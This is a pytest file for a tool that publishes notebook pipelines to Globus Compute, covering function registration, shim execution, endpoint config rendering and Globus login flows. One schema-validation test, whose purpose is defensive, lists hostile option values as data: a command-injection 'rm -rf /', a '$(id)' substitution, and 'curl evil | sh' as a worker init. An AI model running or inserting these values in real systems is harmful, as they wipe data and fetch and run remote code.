"""Publishing to Globus Compute, offline but with the real libraries throughout:

- the real ``globus_compute_sdk.Client`` registers the shims against HTTP mocked at the
  transport layer (``globus_sdk.testing`` + ``responses``); the request bodies are
  asserted whole;
- the shim is taken back out of the body it was sent in, deserialized by the SDK's own
  serializer, and run by the real endpoint engine (``ThreadPoolEngine``) against a
  session the runtime executor made on the host;
- the endpoint template is validated and rendered by the endpoint's own code and loaded
  into a real ``GlobusComputeEngine`` config;
- login / logout / whoami run through real globus-sdk apps, including the native-app
  flow with a signed ID token.

The same shim inside a built image is tested in test_globus_engine.py.
"""

from __future__ import annotations

import argparse
import json
import os
import stat
import subprocess
import sys
import time
import types
import uuid
from pathlib import Path
from typing import Any

import globus_sdk
import jsonschema
import pytest
import responses
from globus_compute_common import messagepack
from globus_compute_common.messagepack.message_types import Task
from globus_compute_sdk import Client
from globus_compute_sdk import __version__ as SDK_VERSION
from globus_compute_sdk.serialize import ComputeSerializer, DillCode, PureSourceTextInspect
from globus_sdk.testing import RegisteredResponse, load_response

from gardenbuild.errors import UserError
from gardenbuild.manifest.load import load
from gardenbuild.publish import auth, globus
from gardenbuild.cli.login import HANDLERS, add_parsers
from gardenbuild.plan.render import pipelines_config
from gardenbuild.report import RecordingReporter

NOTEBOOKS = Path(__file__).parent / "fixtures" / "notebooks"
COMPUTE_SCOPE = "https://auth.globus.org/scopes/facd7ccc-c5f4-42aa-916b-a0e270e2c2a9/all"
IMAGE = "registry.example.org/gardens/simple-garden@sha256:" + "5" * 64
SECRET = "CLIENT-SECRET-never-written-7f3a"

GARDENFILE = """\
notebook = "nb/simple.ipynb"

[garden]
name = "simple-garden"
title = "Simple test garden"
license = "MIT"

[[garden.authors]]
name = "Test Author"

[[pipeline]]
name = "double"
description = "Doubles numbers."

[[pipeline]]
name = "norm"

[[pipeline]]
name = "summary"

[[pipeline]]
name = "boom"
function = "explode"
"""


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Any, globus.ShimPaths]:
    """The simple notebook as a garden, and its session made by the runtime executor on
    the host, laid out as in an image (notebook_path relative to the working dir)."""
    root = tmp_path_factory.mktemp("garden")
    (root / "nb").mkdir()
    for name in ("simple.ipynb", "simple_helpers.py", "offset.txt"):
        (root / "nb" / name).write_bytes((NOTEBOOKS / name).read_bytes())
    (root / "Gardenfile.toml").write_text(GARDENFILE)
    garden = load(root)
    (root / "pipelines.json").write_text(pipelines_config(garden))
    proc = subprocess.run(
        [sys.executable, "-m", "gardenbuild.runtime.execute", "--notebook", garden.notebook,
         "--config", "pipelines.json", "--out", "out"],
        cwd=root, capture_output=True, text=True, timeout=120,
        env={**os.environ, "PYTHONHASHSEED": "0"},
    )
    assert proc.returncode == 0, proc.stderr
    paths = globus.ShimPaths(session=str(root / "out" / "session.pkl"), metadata=str(root / "out" / "metadata.json"),
                             workdir=str(root), lib="")
    return garden, paths


@pytest.fixture
def http(monkeypatch):
    """Every HTTP request of globus-sdk goes to `responses`; unmatched ones fail. The
    SDK still retries transient failures, without sleeping between attempts."""
    from globus_sdk.transport import RequestsTransport

    monkeypatch.setattr(RequestsTransport, "_retry_sleep", lambda self, config, ctx: None)
    responses.start()
    yield responses
    responses.stop()
    responses.reset()


@pytest.fixture
def client(http) -> Client:
    """The real Compute client, without credentials or version check (offline)."""
    return Client(authorizer=globus_sdk.NullAuthorizer(), do_version_check=False,
                  code_serialization_strategy=PureSourceTextInspect())


@pytest.fixture
def fresh_process(monkeypatch, tmp_path):
    """The shim changes the working directory, sys.path and __main__ and caches sessions
    in sys.modules, as it should in a worker; undo all of it after the test."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    monkeypatch.setitem(sys.modules, "__main__", sys.modules["__main__"])
    cache = types.ModuleType("_gardenbuild_sessions")
    cache.loaded = {}
    monkeypatch.setitem(sys.modules, "_gardenbuild_sessions", cache)
    return cache


@pytest.fixture
def config_home(monkeypatch, tmp_path) -> Path:
    """A private user config dir, and no service-account variables."""
    home = tmp_path / "config"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    monkeypatch.delenv(auth.CLIENT_ID_VAR, raising=False)
    monkeypatch.delenv(auth.CLIENT_SECRET_VAR, raising=False)
    return home


def register_responses(ids: list[str]) -> None:
    for fid in ids:
        RegisteredResponse(service="compute", path="/v3/functions", method="POST", json={"function_uuid": fid}).add()


def posted(http) -> list[dict[str, Any]]:
    return [json.loads(c.request.body) for c in http.calls if c.request.url.endswith("/v3/functions")]


def code_buffers(function_code: str) -> list[str]:
    return ComputeSerializer.unpack_buffers(function_code)


# --------------------------------------------------------------------------- registration


def test_register_posts_one_source_function_per_pipeline(built, client, http) -> None:
    garden, _ = built
    ids = [str(uuid.uuid4()) for _ in garden.pipelines]
    register_responses(ids)
    reporter = RecordingReporter()

    function_ids, requests = globus.register(garden, IMAGE, client=client, reporter=reporter)

    assert function_ids == {"double": ids[0], "norm": ids[1], "summary": ids[2], "boom": ids[3]}
    bodies = posted(http)
    assert len(bodies) == 4
    assert [r["body"] for r in requests] == bodies  # what register() reports is what was sent
    for call in http.calls:
        assert call.request.method == "POST"
        assert "Authorization" not in call.request.headers  # NullAuthorizer
    first = bodies[0]
    assert first == {
        "function_name": "double",
        "function_code": first["function_code"],
        "serialized": True,
        "meta": {"python_version": ".".join(map(str, sys.version_info[:3])), "sdk_version": SDK_VERSION,
                 "serde_identifier": "st"},
        "description": f"Doubles numbers. (gardenbuild garden simple-garden 0.1.0; runs in {IMAGE})",
        "public": True,
    }
    assert bodies[1]["description"] == ("Pipeline norm of Simple test garden. "
                                        f"(gardenbuild garden simple-garden 0.1.0; runs in {IMAGE})")
    for pipeline, body in zip(garden.pipelines, bodies, strict=True):
        # one buffer: the PureSourceTextInspect payload, i.e. "st\n<name>:<source>"
        [buffer] = code_buffers(body["function_code"])
        assert buffer == f"st\n{pipeline.name}:" + globus.shim_source(garden, pipeline, IMAGE)
        assert body["function_name"] == pipeline.name
    assert reporter.messages("info") == [f"registered {p.name} as Globus Compute function {i}"
                                         for p, i in zip(garden.pipelines, ids, strict=True)]


def test_register_with_the_sdk_testing_fixture(built, client, http) -> None:
    garden, _ = built
    response = load_response(globus_sdk.ComputeClientV3.register_function)
    one = type(garden)(**{**garden.__dict__, "pipelines": garden.pipelines[:1]})

    function_ids, _ = globus.register(one, IMAGE, client=client)

    assert function_ids == {"double": response.metadata["function_id"]}
    assert http.calls[0].request.url == "https://compute.api.globus.org/v3/functions"


def test_dry_run_sends_nothing_and_shows_the_same_bodies(built, client, http) -> None:
    garden, _ = built
    function_ids, dry = globus.register(garden, IMAGE, dry_run=True)
    assert function_ids == {} and len(http.calls) == 0
    register_responses([str(uuid.uuid4()) for _ in garden.pipelines])
    _, sent = globus.register(garden, IMAGE, client=client)
    assert dry == sent
    assert [r["path"] for r in dry] == ["/v3/functions"] * 4


def test_shim_source_is_self_contained_and_compiles_on_older_pythons(built) -> None:
    garden, _ = built
    import ast

    for pipeline in garden.pipelines:
        source = globus.shim_source(garden, pipeline, IMAGE)
        tree = ast.parse(source, feature_version=(3, 10))  # workers may run Python 3.10
        [fn] = tree.body  # exactly one function: PureSourceTextInspect sends it alone
        assert isinstance(fn, ast.FunctionDef) and fn.name == pipeline.name
        assert IMAGE in source and "/garden/session.pkl" in source


def test_register_refuses_a_tag_and_a_dill_client(built, http) -> None:
    garden, _ = built
    with pytest.raises(UserError, match="by digest") as err:
        globus.register(garden, "registry.example.org/gardens/simple-garden:latest", dry_run=True)
    assert "sha256" in err.value.hint
    dill_client = Client(authorizer=globus_sdk.NullAuthorizer(), do_version_check=False,
                         code_serialization_strategy=DillCode())
    with pytest.raises(globus.PublishError, match="not source text"):
        globus.register(garden, IMAGE, client=dill_client)
    assert len(http.calls) == 0


@pytest.mark.parametrize(
    ("status", "body", "error", "message", "hint"),
    [
        (401, {"code": "UNAUTHORIZED", "message": "token expired"}, auth.LoginRequired,
         "Globus refused the request while registering pipeline 'double'", "run: gardenbuild login --force"),
        (500, {"code": "INTERNAL_ERROR", "message": "boom"}, auth.ServiceError,
         "Globus answered 500 INTERNAL_ERROR while registering pipeline 'double'", None),
    ],
)
def test_register_errors_name_the_fix(built, client, http, status, body, error, message, hint) -> None:
    garden, _ = built
    RegisteredResponse(service="compute", path="/v3/functions", method="POST", status=status, json=body).add()
    with pytest.raises(error) as err:
        globus.register(garden, IMAGE, client=client)
    assert str(err.value).startswith(message)
    assert err.value.hint == hint


def test_register_offline_says_so(built, client, http) -> None:
    garden, _ = built  # nothing registered: responses refuses the connection
    with pytest.raises(auth.ServiceError, match="cannot reach Globus while registering pipeline 'double'") as err:
        globus.register(garden, IMAGE, client=client)
    assert "network" in err.value.hint


# --------------------------------------------------------------------------- the shim, run by the engine


def run_tasks(engine, function_code: str, calls: list[tuple[tuple, dict]]) -> list[tuple[bool, Any]]:
    """Submit tasks as the service hands them to an endpoint: the registered function
    buffer followed by the serialized arguments; return (ok, result or error text)."""
    serde = ComputeSerializer()
    out = []
    for args, kwargs in calls:
        from globus_compute_endpoint.engines.base import GCFuture

        task_id = uuid.uuid4()
        buffer = function_code + serde.pack_buffers([serde.serialize(args), serde.serialize(kwargs)])
        future = GCFuture(gc_task_id=task_id)
        engine.submit(future, messagepack.pack(Task(task_id=task_id, task_buffer=buffer)), resource_specification={})
        result = messagepack.unpack(future.result(timeout=120))
        out.append((False, result.data) if result.is_error else (True, serde.deserialize(result.data)))
    return out


def test_registered_shim_runs_on_the_thread_pool_engine(built, client, http, fresh_process, tmp_path) -> None:
    from globus_compute_endpoint.engines import ThreadPoolEngine

    garden, paths = built
    register_responses([str(uuid.uuid4()) for _ in garden.pipelines])
    globus.register(garden, IMAGE, client=client, paths=paths)
    codes = {body["function_name"]: body["function_code"] for body in posted(http)}

    # the code string as sent deserializes, with the SDK's serializer, to the pipeline's shim
    serde = ComputeSerializer()
    shim = serde.deserialize(code_buffers(codes["double"])[0])
    assert shim.__name__ == "double" and "Pipeline double of garden simple-garden" in shim.__doc__

    engine = ThreadPoolEngine(max_workers=1)
    engine.start(endpoint_id=uuid.uuid4(), run_dir=str(tmp_path / "endpoint"))
    try:
        started = time.perf_counter()
        [first] = run_tasks(engine, codes["double"], [(([1, 2.5],), {})])
        cold = time.perf_counter() - started
        started = time.perf_counter()
        results = run_tasks(engine, codes["double"], [(([4],), {})])
        warm = time.perf_counter() - started
        results += run_tasks(engine, codes["norm"], [((), {"v": [3, 4]}), (([3, 4],), {"squared": True})])
        results += run_tasks(engine, codes["summary"], [(([3, 1, 2],), {})])
        [(ok, error)] = run_tasks(engine, codes["boom"], [((0,), {})])
    finally:
        engine.shutdown()

    assert first == (True, [2.0, 5.0])
    tags = ["alpha", "beta", "delta", "epsilon", "gamma"]  # a set, sorted; the NaN became null
    assert results == [(True, [8.0]), (True, 5.5), (True, 25.5), (True, [1, 3, None, tags])]
    assert not ok
    assert "ZeroDivisionError: division by zero" in error
    assert '<simple.ipynb cell 6>", line 2, in _helper' in error  # the notebook's own traceback
    assert len(fresh_process.loaded) == 1  # the session was loaded once for all the calls
    print(f"ThreadPoolEngine round trip: first call {cold * 1000:.1f} ms, then {warm * 1000:.1f} ms")


def test_shim_outside_its_image_says_how_to_submit(built, fresh_process, tmp_path) -> None:
    from globus_compute_endpoint.engines import ThreadPoolEngine

    garden, _ = built
    body = globus.registration_body(garden, garden.pipelines[0], IMAGE)  # the image layout: no /garden here
    engine = ThreadPoolEngine(max_workers=1)
    engine.start(endpoint_id=uuid.uuid4(), run_dir=str(tmp_path / "endpoint"))
    try:
        [(ok, error)] = run_tasks(engine, body["function_code"], [(([1],), {})])
    finally:
        engine.shutdown()
    assert not ok
    assert f"runs only inside its image {IMAGE}" in error
    assert "user_endpoint_config whose container_uri is" in error


# --------------------------------------------------------------------------- endpoint side


def render_endpoint_config(user_opts: dict[str, Any], tmp_path: Path) -> str:
    """Render our template exactly as a multi-user endpoint does for a task."""
    import pwd

    from globus_compute_endpoint.endpoint.config import CoreEndpointConfig
    from globus_compute_endpoint.endpoint.config.utils import render_config_user_template
    from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity

    template_path = tmp_path / globus.ENDPOINT_TEMPLATE
    template_path.write_text(globus.endpoint_template())
    identity = MappedPosixIdentity(pwd.getpwuid(os.getuid()), [], str(uuid.uuid4()))
    return render_config_user_template(CoreEndpointConfig(), globus.endpoint_template(), template_path,
                                       identity, globus.endpoint_schema(), user_opts, {})


@pytest.mark.parametrize(
    ("container_type", "launch_prefix"),
    [
        ("docker", "docker run --network host --rm -v {run} -t " + IMAGE),
        ("podman", "podman run --network host --rm -v {run} -t " + IMAGE),
        ("apptainer", "apptainer run docker://" + IMAGE),
    ],
)
def test_endpoint_template_renders_into_a_containerized_engine(container_type, launch_prefix, tmp_path) -> None:
    from globus_compute_endpoint.endpoint.config.utils import load_config_yaml

    config = globus.user_endpoint_config(IMAGE, container_type)
    rendered = render_endpoint_config(config, tmp_path)
    loaded = load_config_yaml(rendered)
    engine = loaded.engine
    try:
        assert type(engine).__name__ == "GlobusComputeEngine"
        assert engine.container_type == container_type
        assert engine.container_uri == config["container_uri"]
        engine.run_dir = "/rundir"
        launch = engine.containerized_launch_cmd()
        assert launch.startswith(launch_prefix.format(run="/rundir:/rundir") + " globus-compute-endpoint python-exec "
                                 "parsl.executors.high_throughput.process_worker_pool")
    finally:
        engine.shutdown()


def test_user_endpoint_config_defaults() -> None:
    assert globus.user_endpoint_config(IMAGE) == {
        "container_type": "docker", "container_uri": IMAGE, "container_cmd_options": "--network host --rm"}
    assert globus.user_endpoint_config(IMAGE, "singularity") == {
        "container_type": "singularity", "container_uri": "docker://" + IMAGE}
    assert globus.user_endpoint_config(IMAGE, "podman", options="") == {
        "container_type": "podman", "container_uri": IMAGE}
    with pytest.raises(UserError, match="unknown container type 'custom'"):
        globus.user_endpoint_config(IMAGE, "custom")


@pytest.mark.parametrize(
    "opts",
    [
        {"container_type": "docker", "container_uri": "registry.example.org/gardens/simple-garden:latest"},
        {"container_type": "custom", "container_uri": IMAGE},
        {"container_type": "docker", "container_uri": IMAGE, "container_cmd_options": "--rm; rm -rf /"},
        {"container_type": "docker", "container_uri": IMAGE, "container_cmd_options": "$(id)"},
        {"container_type": "docker", "container_uri": IMAGE, "worker_init": "curl evil | sh"},
        {"container_uri": IMAGE},
    ],
)
def test_endpoint_schema_refuses_unsafe_options(opts, tmp_path) -> None:
    jsonschema.Draft202012Validator.check_schema(globus.endpoint_schema())
    with pytest.raises(jsonschema.ValidationError):
        render_endpoint_config(opts, tmp_path)


def test_write_artifacts(built, tmp_path) -> None:
    garden, _ = built
    ids = {p.name: str(uuid.uuid4()) for p in garden.pipelines}
    _, requests = globus.register(garden, IMAGE, dry_run=True)
    written = globus.write_artifacts(tmp_path, garden, IMAGE, ids, requests)

    folder = tmp_path / "globus"
    assert sorted(written) == sorted([
        "function_ids.json", "user_endpoint_config.json", "user_config_template.yaml.j2", "user_config_schema.json",
        "registration.json", "shims/double.py", "shims/norm.py", "shims/summary.py", "shims/boom.py"])
    data = json.loads((folder / "function_ids.json").read_text())
    assert data["functions"] == ids and data["image"] == IMAGE and data["garden"] == "simple-garden"
    assert data["serialization"] == "globus_compute_sdk.serialize.PureSourceTextInspect"
    assert json.loads((folder / "user_endpoint_config.json").read_text()) == globus.user_endpoint_config(IMAGE)
    assert (folder / "user_config_template.yaml.j2").read_text() == globus.endpoint_template()
    assert json.loads((folder / "user_config_schema.json").read_text()) == globus.endpoint_schema()
    assert json.loads((folder / "registration.json").read_text()) == requests
    assert (folder / "shims" / "double.py").read_text() == globus.shim_source(garden, garden.pipelines[0], IMAGE)


# --------------------------------------------------------------------------- login / logout / whoami


def token_doc(resource_server: str, scope: str, access_token: str, **extra: Any) -> dict[str, Any]:
    return {"access_token": access_token, "scope": scope, "expires_in": 172800, "token_type": "Bearer",
            "resource_server": resource_server, "other_tokens": [], **extra}


def mock_client_credentials() -> None:
    """Globus Auth's token endpoint answers each client-credentials grant for the scope asked."""
    def answer(request):
        scope = dict(x.split("=", 1) for x in request.body.split("&"))["scope"]
        if "facd7ccc" in scope:
            return 200, {}, json.dumps(token_doc("funcx_service", COMPUTE_SCOPE, "COMPUTE-TOKEN-c1"))
        return 200, {}, json.dumps(token_doc("auth.globus.org", "openid profile email", "AUTH-TOKEN-c1"))

    responses.add_callback(responses.POST, "https://auth.globus.org/v2/oauth2/token", callback=answer)


def mock_userinfo(sub: str, username: str) -> None:
    RegisteredResponse(service="auth", path="/v2/oauth2/userinfo", json={
        "sub": sub, "preferred_username": username, "name": "Ada Lovelace", "email": "ada@example.org"}).add()


def namespace(**kw: Any) -> argparse.Namespace:
    return argparse.Namespace(**{"json": False, "force": False, **kw})


def test_service_account_end_to_end_writes_no_secret(built, config_home, http, monkeypatch, tmp_path, capsys) -> None:
    """CI: client credentials from the environment, a real Compute client with a real
    version check, registration with a bearer token; nothing secret lands anywhere."""
    garden, _ = built
    client_id = "11111111-2222-3333-4444-555555555555"
    monkeypatch.setenv(auth.CLIENT_ID_VAR, client_id)
    monkeypatch.setenv(auth.CLIENT_SECRET_VAR, SECRET)
    mock_client_credentials()
    mock_userinfo(client_id, f"{client_id}@clients.auth.globus.org")
    RegisteredResponse(service="compute", path="/v2/version", json={
        "api": "1.23.0", "min_sdk_version": "1.0.0", "min_ep_version": "1.0.0"}).add()
    register_responses([str(uuid.uuid4()) for _ in garden.pipelines])
    reporter = RecordingReporter()

    assert HANDLERS["login"](namespace(), reporter) == 0
    app = auth.make_app()
    compute = globus.compute_client(app)
    ids, requests = globus.register(garden, IMAGE, client=compute, reporter=reporter)
    globus.write_artifacts(tmp_path / "out", garden, IMAGE, ids, requests)

    out, err = capsys.readouterr()
    assert f"logged in as {client_id}@clients.auth.globus.org (service account)" in out
    token_calls = [c for c in http.calls if c.request.url.endswith("/v2/oauth2/token")]
    assert token_calls and all(c.request.headers["Authorization"].startswith("Basic ") for c in token_calls)
    registrations = [c for c in http.calls if c.request.url.endswith("/v3/functions")]
    assert [c.request.headers["Authorization"] for c in registrations] == ["Bearer COMPUTE-TOKEN-c1"] * 4
    secrets = (SECRET, "COMPUTE-TOKEN-c1", "AUTH-TOKEN-c1")
    said = out + err + "\n".join(m for _, m in reporter.events) + json.dumps(requests)
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file():
            said += path.read_text()
    assert not any(s in said for s in secrets)
    assert not config_home.exists() or not any(p.is_file() for p in config_home.rglob("*"))  # memory only


def test_half_a_service_account_is_an_error(config_home, monkeypatch) -> None:
    monkeypatch.setenv(auth.CLIENT_SECRET_VAR, SECRET)
    message = "GLOBUS_COMPUTE_CLIENT_SECRET is set but GLOBUS_COMPUTE_CLIENT_ID is not"
    with pytest.raises(auth.AuthError, match=message) as err:
        auth.make_app()
    assert "gardenbuild login" in err.value.hint
    assert SECRET not in str(err.value) + err.value.hint


def test_not_logged_in_names_the_command(config_home, http) -> None:
    app = auth.make_app()
    with pytest.raises(auth.LoginRequired, match="not logged in to Globus") as err:
        HANDLERS["whoami"](namespace(), RecordingReporter())
    assert err.value.hint == "run: gardenbuild login"
    assert err.value.exit_code == 2
    with pytest.raises(auth.LoginRequired):
        auth.require_login(app)
    assert len(http.calls) == 0  # it did not try to log in by itself


def test_login_needs_a_terminal(config_home, http, monkeypatch) -> None:
    def no_input(prompt: str = "") -> str:
        raise EOFError

    monkeypatch.setattr("builtins.input", no_input)
    with pytest.raises(auth.LoginRequired, match="logging in needs an interactive terminal") as err:
        auth.login(auth.make_app())
    assert "GLOBUS_COMPUTE_CLIENT_ID" in err.value.hint


@pytest.fixture
def signing_key():
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def mock_native_login(signing_key, identity: str) -> None:
    """Globus Auth for the native-app flow: the code exchange returns tokens and a signed
    ID token, and the OpenID configuration and JWKS let globus-sdk verify it."""
    import jwt

    jwk = jwt.algorithms.RSAAlgorithm.to_jwk(signing_key.public_key(), as_dict=True)
    RegisteredResponse(service="auth", path="/.well-known/openid-configuration", json={
        "issuer": "https://auth.globus.org", "jwks_uri": "https://auth.globus.org/jwk.json",
        "id_token_signing_alg_values_supported": ["RS512"]}).add()
    RegisteredResponse(service="auth", path="/jwk.json", json={"keys": [jwk]}).add()
    now = int(time.time())
    id_token = jwt.encode({"sub": identity, "aud": auth.NATIVE_CLIENT_ID, "iss": "https://auth.globus.org",
                           "iat": now, "exp": now + 3600}, signing_key, algorithm="RS512")
    RegisteredResponse(service="auth", path="/v2/oauth2/token", method="POST", json={
        **token_doc("auth.globus.org", "openid profile email", "AUTH-TOKEN-u1", refresh_token="AUTH-REFRESH-u1",
                    id_token=id_token),
        "other_tokens": [token_doc("funcx_service", COMPUTE_SCOPE, "COMPUTE-TOKEN-u1",
                                   refresh_token="COMPUTE-REFRESH-u1")],
    }).add()


def test_native_app_login_whoami_and_logout(config_home, http, signing_key, monkeypatch, capsys) -> None:
    identity = str(uuid.uuid4())
    mock_native_login(signing_key, identity)
    mock_userinfo(identity, "ada@example.org")
    prompts: list[str] = []
    monkeypatch.setattr("builtins.input", lambda prompt="": prompts.append(prompt) or "THE-AUTH-CODE")

    assert HANDLERS["login"](namespace(json=True), RecordingReporter()) == 0
    out, err = capsys.readouterr()
    assert "https://auth.globus.org/v2/oauth2/authorize?" in err  # the link to open, on stderr
    assert err.endswith("Paste the authorization code here: ") and prompts == [""]
    info = json.loads(out)  # stdout holds the result only
    assert info["identity_id"] == identity and info["username"] == "ada@example.org"
    exchange = [c for c in http.calls if c.request.url.endswith("/v2/oauth2/token")][0]
    assert "code=THE-AUTH-CODE" in exchange.request.body and "grant_type=authorization_code" in exchange.request.body
    assert "code_verifier=" in exchange.request.body  # PKCE: the native-app flow, no secret

    path = config_home / "gardenbuild" / auth.TOKEN_FILE
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    stored = json.loads(path.read_text())["data"]["DEFAULT"]
    assert sorted(stored) == ["auth.globus.org", "funcx_service"]
    assert stored["funcx_service"]["refresh_token"] == "COMPUTE-REFRESH-u1"

    # a second process: the stored login is used, without prompting
    mock_userinfo(identity, "ada@example.org")
    assert HANDLERS["whoami"](namespace(json=True), RecordingReporter()) == 0
    info = json.loads(capsys.readouterr().out)
    assert info == {"identity_id": identity, "username": "ada@example.org", "name": "Ada Lovelace",
                    "email": "ada@example.org", "service_account": False}
    assert len(prompts) == 1

    # logout revokes every token and removes the file
    RegisteredResponse(service="auth", path="/v2/oauth2/token/revoke", method="POST", json={"active": False}).add()
    assert HANDLERS["logout"](namespace(), RecordingReporter()) == 0
    assert "logged out: tokens revoked and removed" in capsys.readouterr().out
    revoked = sorted(c.request.body for c in http.calls if c.request.url.endswith("/revoke"))
    assert len(revoked) == 4 and all("token=" in b for b in revoked)
    assert not path.exists()
    with pytest.raises(auth.LoginRequired):
        auth.whoami(auth.make_app())


def test_expired_login_and_offline_logout(config_home, http, signing_key, monkeypatch) -> None:
    identity = str(uuid.uuid4())
    mock_native_login(signing_key, identity)
    monkeypatch.setattr("builtins.input", lambda prompt="": "CODE")
    app = auth.make_app()
    app.login()
    path = config_home / "gardenbuild" / auth.TOKEN_FILE
    data = json.loads(path.read_text())
    for record in data["data"]["DEFAULT"].values():
        record["expires_at_seconds"] = int(time.time()) - 60  # access tokens expired
    path.write_text(json.dumps(data))

    # the refresh token was revoked meanwhile: Globus Auth says invalid_grant
    RegisteredResponse(service="auth", path="/v2/oauth2/token", method="POST", status=400,
                       json={"error": "invalid_grant"}).add()
    with pytest.raises(auth.LoginRequired, match="Globus Auth rejected the stored credentials") as err:
        auth.whoami(auth.make_app())
    assert err.value.hint == "run: gardenbuild login --force"

    # offline: revocation fails, the local copy goes anyway
    reporter = RecordingReporter()
    assert HANDLERS["logout"](namespace(), reporter) == 0
    assert reporter.messages("warn") == ["could not reach Globus Auth to revoke the tokens; they expire on their own"]
    assert not path.exists()


def test_add_parsers() -> None:
    top = argparse.ArgumentParser(prog="gardenbuild")
    sub = top.add_subparsers(dest="command", required=True)
    add_parsers(sub)
    assert top.parse_args(["login", "--force"]) == argparse.Namespace(command="login", force=True, json=False)
    assert top.parse_args(["logout", "--json"]) == argparse.Namespace(command="logout", json=True)
    assert top.parse_args(["whoami"]) == argparse.Namespace(command="whoami", json=False)
    assert sorted(HANDLERS) == ["login", "logout", "whoami"]
